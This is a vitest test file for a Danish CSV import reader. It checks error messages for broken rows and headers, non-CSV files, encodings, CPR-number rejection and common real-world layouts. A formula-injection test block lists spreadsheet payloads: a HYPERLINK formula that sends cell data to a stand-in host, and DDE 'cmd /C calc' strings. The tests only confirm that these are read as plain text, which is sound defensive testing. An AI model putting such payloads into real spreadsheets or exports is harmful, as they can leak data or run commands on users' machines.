import { describe, expect, it } from 'vitest';
import { interpretRecord } from '../../../src/imports/interpret.js';
import { readImportFile, type ReadResult } from '../../../src/imports/read-file.js';
import { formatCanonical } from '../../../src/periods/period.js';
import { bytes, utf16le, utf8, utf8Bom, windows1252 } from './bytes.js';

const read = (text: string): ReadResult => readImportFile(utf8Bom(text));

const LONG_HEADER = 'Indikator;Kvartal;Værdi;Bemærkning\r\n';

describe('broken rows', () => {
  it.each([
    {
      name: 'a row with too many cells',
      text: `${LONG_HEADER}Sygefravær;2024K1;7,7;\r\nSygefravær; pct.;2024K2;7,1;\r\nSygefravær;2024K3;6,9;\r\n`,
      error: {
        line: 3,
        column: 5,
        code: 'too-many-cells',
        message:
          'Linje 3, kolonne 5: Rækken har 5 celler, men overskriften har 4. Det sker typisk, når en tekst indeholder et semikolon ' +
          'uden at stå i anførselstegn. Rækken er ikke læst.',
      },
      periods: ['2024K1', '2024K3'],
    },
    {
      name: 'a row with too few cells',
      text: `${LONG_HEADER}Sygefravær;2024K1;7,7;\r\nSygefravær;2024K2\r\nSygefravær;2024K3;6,9;\r\n`,
      error: {
        line: 3,
        column: 3,
        columnName: 'Værdi',
        code: 'too-few-cells',
        message:
          'Linje 3, kolonne 3 („Værdi“): Rækken har 2 celler, men overskriften har 4. Der mangler måske et semikolon, ' +
          'eller en tekst med linjeskift mangler anførselstegn. Rækken er ikke læst.',
      },
      periods: ['2024K1', '2024K3'],
    },
    {
      name: 'an unclosed quote',
      text: `${LONG_HEADER}Sygefravær;2024K1;7,7;\r\nSygefravær;2024K2;7,1;"Ny proces\r\nSygefravær;2024K3;6,9;\r\n`,
      error: {
        line: 3,
        column: 4,
        code: 'unclosed-quote',
        message:
          'Linje 3, kolonne 4: Et anførselstegn (") åbner en tekst, som aldrig bliver lukket, så resten af filen herfra kan ikke læses. ' +
          'Tilføj det manglende anførselstegn, eller fjern det.',
      },
      periods: ['2024K1'],
    },
  ])('reports $name at its line and column and reads the other rows', ({ text, error, periods }) => {
    const result = read(text);
    expect(result.ok).toBe(true);
    expect(result.errors).toEqual([error]);
    expect(result.records.map((r) => r.periodText)).toEqual(periods);
  });

  it('tolerates empty cells after the last column when most rows end in extra delimiters', () => {
    const result = read('Indikator;Kvartal;Værdi\r\nSygefravær;2024K1;7,7;;\r\n');
    expect(result.errors).toEqual([]);
    expect(result.records).toHaveLength(1);
  });

  it('names a comma in a Danish decimal as the likely cause of too many cells in a , file', () => {
    const result = readImportFile(utf8('indicator,period,value\nA,2024K1,7,7\n'));
    expect(result.errors[0]?.message).toBe(
      'Linje 2, kolonne 4: Rækken har 4 celler, men overskriften har 3. Det sker typisk, når et tal med decimalkomma (fx 7,7) ' +
        'eller en tekst med komma ikke står i anførselstegn. Rækken er ikke læst.',
    );
  });

  it('keeps counting physical lines after quoted newlines', () => {
    const result = read(
      `${LONG_HEADER}Sygefravær;2024K1;7,7;"Første linje\r\nanden linje\r\ntredje linje"\r\nSygefravær;2024K2\r\nSygefravær;2024K3;6,9;\r\n`,
    );
    expect(result.errors).toMatchObject([{ line: 5, code: 'too-few-cells' }]);
    expect(result.records.map((r) => [r.line, r.periodText])).toEqual([
      [2, '2024K1'],
      [6, '2024K3'],
    ]);
    expect(result.records[0]?.comment).toBe('Første linje\r\nanden linje\r\ntredje linje');
  });

  it('keeps counting physical lines across blank lines in the middle', () => {
    const result = read(`${LONG_HEADER}Sygefravær;2024K1;7,7;\r\n\r\n;;;\r\n   \r\nSygefravær;2024K2;x;y;z\r\n`);
    expect(result.errors).toMatchObject([{ line: 6, column: 5, code: 'too-many-cells' }]);
    expect(result.rowCount).toBe(2);
  });

  it.each([
    { name: 'indicator', row: ';2024K1;7,7;', error: { column: 1, columnName: 'Indikator', code: 'missing-indicator' } },
    { name: 'period', row: 'Sygefravær;;7,7;', error: { column: 2, columnName: 'Kvartal', code: 'missing-period' } },
  ])('reports a value without $name at its cell', ({ row, error }) => {
    expect(read(`${LONG_HEADER}${row}\r\n`).errors).toMatchObject([{ line: 2, ...error }]);
  });
});

describe('broken headers', () => {
  it('reports a duplicated indicator column at line 1 and skips it', () => {
    const result = read('Kvartal;Sygefravær;Tilfredshed;Sygefravær\r\n2024K1;7,1;80;9\r\n');
    expect(result.errors).toEqual([
      {
        line: 1,
        column: 4,
        columnName: 'Sygefravær',
        code: 'duplicate-header',
        message:
          'Linje 1, kolonne 4 („Sygefravær“): Overskriften står også i kolonne 2. Giv kolonnerne forskellige navne, så det er tydeligt, ' +
          'hvilke tal der hører til hvad. Kolonnen er ikke læst.',
      },
    ]);
    expect(result.records.map((r) => [r.indicatorLabel, r.valueText])).toEqual([
      ['Sygefravær', '7,1'],
      ['Tilfredshed', '80'],
    ]);
  });

  it('refuses a long file without a period column, naming what it expected', () => {
    const result = read('Indikator;Værdi\r\nSygefravær;7,7\r\n');
    expect(result).toMatchObject({
      ok: false,
      fatal: {
        line: 1,
        code: 'missing-period-column',
        message: 'Linje 1: Der er ingen kolonne med perioder. Forventede en kolonne som „Kvartal“ eller „Periode“.',
      },
      header: ['Indikator', 'Værdi'],
      records: [],
    });
  });

  it('reports an unnamed column that holds values at line 1 and its column', () => {
    const result = read('Kvartal;Sygefravær;;Tilfredshed\r\n2024K1;7,1;;80\r\n2024K2;7,3;5;81\r\n');
    expect(result.errors).toEqual([
      {
        line: 1,
        column: 3,
        code: 'empty-header',
        message:
          'Linje 1, kolonne 3: Kolonnen har ingen overskrift, men der står værdier i den (første gang i linje 3). ' +
          'Skriv indikatorens navn i overskriften, eller slet kolonnen.',
      },
    ]);
    expect(result.records).toHaveLength(4);
  });

  it('ignores an unnamed column with nothing in it', () => {
    expect(read('Kvartal;Sygefravær;;Tilfredshed\r\n2024K1;7,1;;80\r\n').errors).toEqual([]);
  });

  it('refuses a header with a single column, naming the delimiter it tried', () => {
    expect(read('Kvartal|Sygefravær\r\n2024K1|7,1\r\n').fatal).toEqual({
      line: 1,
      code: 'single-column',
      message:
        'Linje 1: Overskriften har kun én kolonne. Vi har læst filen som adskilt med semikolon, men filen skal have mindst to ' +
        'kolonner adskilt med semikolon, komma eller tabulator.',
    });
  });
});

describe('files that cannot be read at all', () => {
  it.each([
    { name: 'an empty file', input: new Uint8Array(0), code: 'empty-file', message: /^Filen er tom\./ },
    { name: 'a file of blank lines', input: utf8('\r\n \r\n\t\r\n'), code: 'empty-file', message: /^Filen er tom\./ },
    { name: 'a BOM and nothing else', input: utf8Bom(''), code: 'empty-file', message: /^Filen er tom\./ },
    {
      name: 'a header with no rows',
      input: utf8Bom('Indikator;Kvartal;Værdi\r\n\r\n'),
      code: 'no-rows',
      message: /^Linje 1: Filen har en overskriftsrække, men ingen rækker med data under den\.$/,
    },
    {
      name: 'only a "sep=;" line',
      input: utf8('sep=;\r\n'),
      code: 'no-header',
      message: /^Filen har ingen overskriftsrække\. Første linje skal være kolonnernes navne, fx Indikator;Kvartal;Værdi\.$/,
    },
    {
      name: 'a header swallowed by an unclosed quote',
      input: utf8('"Indikator;Kvartal;Værdi\r\nA;2024K1;7\r\n'),
      code: 'unclosed-quote',
      message: /^Linje 1, kolonne 1: Et anførselstegn/,
    },
    {
      name: 'a PNG image',
      input: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
      code: 'not-csv',
      message: /^Filen ser ud til at være et billede \(PNG\), ikke en CSV-fil\./,
    },
    {
      name: 'an .xlsx workbook',
      input: bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0], '[Content_Types].xml', 'xl/workbook.xml'),
      code: 'not-csv',
      message: /^Filen ser ud til at være en Excel-projektmappe \(\.xlsx\), ikke en CSV-fil\. Åbn den i Excel, vælg Filer › Gem som/,
    },
    {
      name: 'a file with NUL bytes',
      input: bytes('Indikator;Kvartal;Værdi\r\n', [0, 0, 0], 'x'),
      code: 'not-csv',
      message: /^Filen indeholder binære data/,
    },
    {
      name: 'an invalid Windows-1252 byte',
      input: bytes([...windows1252('Kvartal;Værdi\r\n2024K1;7\r\n2024K2;')], [0x9d], '\r\n'),
      code: 'encoding',
      message: /^Linje 3 indeholder et tegn \(byte 0x9D\), som hverken findes i UTF-8 eller Windows-1252\./,
    },
  ])('refuses $name with a Danish reason', ({ input, code, message }) => {
    const result = readImportFile(input);
    expect(result.ok).toBe(false);
    expect(result.fatal?.code).toBe(code);
    expect(result.fatal?.message).toMatch(message);
    expect(result.records).toEqual([]);
  });

  it('gives the line of an invalid Windows-1252 byte in the fatal error', () => {
    const result = readImportFile(bytes([...windows1252('Kvartal;Værdi\r\n2024K1;7\r\n2024K2;')], [0x81]));
    expect(result.fatal).toMatchObject({ line: 3, code: 'encoding' });
  });
});

describe('CPR numbers', () => {
  const CPR_TAIL = 'ser ud til at indeholde et CPR-nummer. Filen er afvist og ikke gemt. Fjern personnumre fra filen, og prøv igen.';

  it.each([
    { where: 'a comment, valid modulus 11 with hyphen', row: 'Sygefravær;2024K2;7,1;Borger 010190-1009 klagede', column: 4, name: 'Bemærkning' },
    { where: 'a comment, failing modulus 11 without hyphen', row: 'Sygefravær;2024K2;7,1;0101901000', column: 4, name: 'Bemærkning' },
    { where: 'an indicator name', row: 'Jens 150875-1008;2024K2;7,1;', column: 1, name: 'Indikator' },
    { where: 'a value', row: 'Sygefravær;2024K2;1508751000;', column: 3, name: 'Værdi' },
    { where: 'a period', row: 'Sygefravær;010190 1000;7,1;', column: 2, name: 'Kvartal' },
    { where: 'a quoted cell with a newline', row: 'Sygefravær;2024K2;7,1;"Se\r\n2902041004"', column: 4, name: 'Bemærkning' },
  ])('refuses the whole file for a CPR number in $where, naming line and column only', ({ row, column, name }) => {
    const text = `${LONG_HEADER}Sygefravær;2024K1;7,7;\r\n${row}\r\nSygefravær;2024K3;6,9;\r\n`;
    const result = read(text);
    expect(result).toMatchObject({ ok: false, records: [], errors: [] });
    expect(result.fatal).toEqual({
      line: 3,
      column,
      columnName: name,
      code: 'cpr',
      message: `Linje 3, kolonne ${column} („${name}“) ${CPR_TAIL}`,
    });
    const digits = /(\d{6})[- ]?(\d{4})/.exec(row);
    const serialized = JSON.stringify(result);
    expect(serialized).not.toContain(digits?.[1]);
    expect(serialized).not.toContain(digits?.[2]);
  });

  it('refuses a CPR number in the header without naming the header cell', () => {
    const result = read('Indikator;Kvartal;Værdi;0101901000\r\nSygefravær;2024K1;7,7;\r\n');
    expect(result.fatal).toEqual({ line: 1, column: 4, code: 'cpr', message: `Linje 1, kolonne 4 ${CPR_TAIL}` });
    expect(result.header).toEqual([]);
  });

  it('refuses a CPR number that a broken quote hid inside one cell, by its line', () => {
    const result = read(`${LONG_HEADER}Sygefravær;2024K1;7,7;"åben\r\nSygefravær;2024K2;7,1;010190-1000\r\n`);
    expect(result.fatal).toMatchObject({ line: 3, code: 'cpr' });
    expect(JSON.stringify(result)).not.toContain('010190');
  });

  it('emits no records through the streaming reader before refusing', () => {
    const rows = Array.from({ length: 100 }, (_, i) => `Sygefravær;${2000 + i}K1;7,7;`).join('\r\n');
    const result = read(`${LONG_HEADER}${rows}\r\nSygefravær;2024K1;7,7;0101901000\r\n`);
    expect(result).toMatchObject({ ok: false, fatal: { line: 102, code: 'cpr' }, records: [] });
  });

  it('reads a file full of CPR look-alikes', () => {
    const result = read(
      LONG_HEADER +
        [
          'Opkald fra 12345678;2024-03-31;1.234.567,89;Ring +45 12 34 56 78',
          'Sag 3213456789;31-12-2024;12;Ref. 120101901009',
          'Kode 0113456789;2024K1;45382;Dato 31.12.2024, tlf. +4512345678',
          'Nr. 2902011004;2024-Q2;1234567890,5;010190/1000',
        ].join('\r\n'),
    );
    expect(result.ok).toBe(true);
    expect(result.records).toHaveLength(4);
  });
});

describe('text that looks like a formula', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
    '+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
  ])('is read back as plain text in names and comments: %s', (payload) => {
    const quoted = `"${payload.replaceAll('"', '""')}"`;
    const result = read(`${LONG_HEADER}${quoted};2024K1;7,7;${quoted}\r\n`);
    expect(result.errors).toEqual([]);
    expect(result.records).toMatchObject([{ indicatorLabel: payload, comment: payload, valueText: '7,7' }]);
  });
});

describe('other real-world shapes', () => {
  it('reads an Excel "Unicode-tekst" file: UTF-16 LE with BOM, tab-separated', () => {
    const result = readImportFile(utf16le('Indikator\tKvartal\tVærdi\r\nSygefravær, medarbejdere (%)\t2024K1\t7,7\r\nBørn pr. voksen\t2024K1\t3,08\r\n'));
    expect(result).toMatchObject({ ok: true, encoding: 'utf-16le', delimiter: '\t', layout: { layout: 'long' }, errors: [] });
    expect(result.records.map((r) => [r.indicatorLabel, r.valueText])).toEqual([
      ['Sygefravær, medarbejdere (%)', '7,7'],
      ['Børn pr. voksen', '3,08'],
    ]);
  });

  it('reads the Statistikbanken shape: label columns, one column per period, outer labels left blank when repeated', () => {
    const result = read(
      ';;2024K1;2024K2;2024K3\r\n' +
        'Hele landet;Sygefravær (%);5,1;4,9;..\r\n' +
        ';Ledighed (pct.);3,0;2,9;2,8\r\n' +
        'Aarhus;Sygefravær (%);5,5;;5,2\r\n',
    );
    expect(result).toMatchObject({ ok: true, layout: { layout: 'wide-periods-in-columns', columns: { labels: [1, 2], periods: [3, 4, 5] } } });
    expect(result.errors).toEqual([]);
    expect(result.records.map((r) => [r.line, r.indicatorLabel, r.periodText, r.valueText, r.unit])).toEqual([
      [2, 'Hele landet – Sygefravær (%)', '2024K1', '5,1', '%'],
      [2, 'Hele landet – Sygefravær (%)', '2024K2', '4,9', '%'],
      [3, 'Hele landet – Ledighed (pct.)', '2024K1', '3,0', 'pct.'],
      [3, 'Hele landet – Ledighed (pct.)', '2024K2', '2,9', 'pct.'],
      [3, 'Hele landet – Ledighed (pct.)', '2024K3', '2,8', 'pct.'],
      [4, 'Aarhus – Sygefravær (%)', '2024K1', '5,5', '%'],
      [4, 'Aarhus – Sygefravær (%)', '2024K3', '5,2', '%'],
    ]);
    expect(result.records[0]).toMatchObject({ periodColumn: 3, valueColumn: 3, indicatorColumn: 2, periodColumnName: '2024K1' });
  });

  it('maps Excel date serials and ISO dates to quarters', () => {
    const result = read(
      'Indikator;Dato;Værdi\r\n' +
        'Sygefravær;45382;7,1\r\n' +
        'Sygefravær;45473;7,2\r\n' +
        'Sygefravær;2024-09-30;7,3\r\n' +
        'Sygefravær;31-12-2024;7,4\r\n' +
        'Sygefravær;31.03.2025;7,5\r\n',
    );
    expect(result.errors).toEqual([]);
    const periods = result.records.map((r) => {
      const interpreted = interpretRecord(r, 'quarter', result.numberStyle?.style);
      return interpreted.ok ? formatCanonical(interpreted.period) : interpreted.error.message;
    });
    expect(periods).toEqual(['2024K1', '2024K2', '2024K3', '2024K4', '2025K1']);
  });
});
